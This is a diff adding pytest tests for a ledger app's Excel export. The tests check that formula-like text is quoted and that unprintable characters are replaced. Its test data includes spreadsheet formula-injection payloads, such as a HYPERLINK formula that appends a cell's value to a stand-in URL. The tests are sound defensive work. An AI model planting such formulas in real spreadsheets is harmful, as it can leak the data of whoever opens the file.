@@ -6,7 +6,7 @@ import io
 
 import pytest
 from openpyxl import Workbook, load_workbook
-from sqlalchemy import func, select
+from sqlalchemy import func, select, text
 
 from ledger import roster
 from ledger.audit import AuditEntry
@@ -141,3 +141,60 @@ def test_the_ledger_exports_to_a_workbook_with_every_transfer(bank, session, clo
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0] == roster.LEDGER_HEADER
     assert [(r[0], r[7], r[12]) for r in rows[1:]] == [(1, "𠮷野", 4), (2, "王大", 4), (3, "王大", -5)]
+
+
+# --- exported cells are never formulas ------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x"&A1,"y")', "+1", "-2", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def _plant_memos(session, bank, clock, memos):
+    """Post money movements with these memos straight through the posting function."""
+    from ledger import accounts
+    from ledger.models import CNY
+    from ledger.posting import Draft, post
+
+    town = accounts.system_account(session, bank.id, CNY, "source:town")
+    fund = accounts.system_account(session, bank.id, CNY, "fund")
+    post(session, bank.id, [Draft(CNY, town.id, fund.id, 100, "grant", clock.today(), memo=m) for m in memos],
+         by="clerk", clock=clock)
+    session.commit()
+
+
+def _cells(data: bytes):
+    sheet = load_workbook(io.BytesIO(data)).active
+    return [cell for row in sheet.iter_rows() for cell in row]
+
+
+def test_formula_like_text_is_exported_as_quoted_text_and_numbers_stay_numbers(bank, session, clock, make):
+    home = make.household(bank, "E01", FORMULAS[0])
+    wang = make.resident(bank, "-王大", home)
+    make.deed(bank, "litter", [wang])
+    _plant_memos(session, bank, clock, FORMULAS)
+    for data in (roster.ledger_xlsx(session, bank), roster.roster_xlsx(session, bank)):
+        cells = _cells(data)
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        texts = {c.value for c in cells if isinstance(c.value, str)}
+        assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert "'-王大" in texts
+    texts = {c.value for c in _cells(roster.ledger_xlsx(session, bank))}
+    # XML reads a carriage return back as a line feed, in any cell.
+    assert {"'" + f.replace("\r", "\n") for f in FORMULAS} <= texts
+    penalty = load_workbook(io.BytesIO(roster.ledger_xlsx(session, bank))).active["M2"]
+    assert (penalty.value, penalty.data_type) == (-5, "n")
+    again = roster.import_roster(session, bank, "back.xlsx", roster.roster_xlsx(session, bank), by="c", clock=clock)
+    assert again.imported and [r.action for r in again.rows] == ["unchanged"]
+
+
+def test_text_with_characters_a_workbook_cannot_hold_is_exported_with_a_replacement_mark(
+        bank, session, clock, make, backend):
+    memos = ["坏\x01字", "响铃\x07"] + (["空\x00字"] if backend["name"] == "sqlite" else [])
+    _plant_memos(session, bank, clock, memos)
+    make.household(bank, "E02", "户名")
+    session.execute(text("UPDATE households SET name = :n WHERE code = 'E02'"), {"n": "王\x02家"})
+    session.commit()
+    make.resident(bank, "王五", session.execute(select(Household).where(Household.code == "E02")).scalar_one())
+    ledger_texts = {c.value for c in _cells(roster.ledger_xlsx(session, bank))}
+    assert {"坏\ufffd字", "响铃\ufffd"} <= ledger_texts
+    assert backend["name"] != "sqlite" or "空\ufffd字" in ledger_texts
+    assert "王\ufffd家" in {c.value for c in _cells(roster.roster_xlsx(session, bank))}
